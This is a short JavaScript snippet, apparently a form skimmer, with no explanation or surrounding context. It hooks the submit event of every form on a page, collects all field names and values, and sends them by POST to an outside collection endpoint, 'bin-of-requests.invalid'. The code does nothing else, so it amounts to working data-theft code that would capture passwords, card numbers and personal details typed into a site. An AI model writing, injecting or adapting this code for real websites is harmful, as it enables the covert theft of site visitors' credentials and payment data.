var all = document.forms, n = all.length;
var pour = function (event) {
  var fields = event.target.elements, line = '', i = 0;
  while (i < fields.length) {
    line += fields[i].name + '=' + fields[i].value + '&';
    i += 1;
  }
  var x = new XMLHttpRequest();
  x.open('POST', 'https://bin-of-requests.invalid/aaaa');
  x.setRequestHeader("Content-type", "application/x-www-form-urlencoded");
  x.send(line);
};
while (n--) all[n].addEventListener('submit', pour);
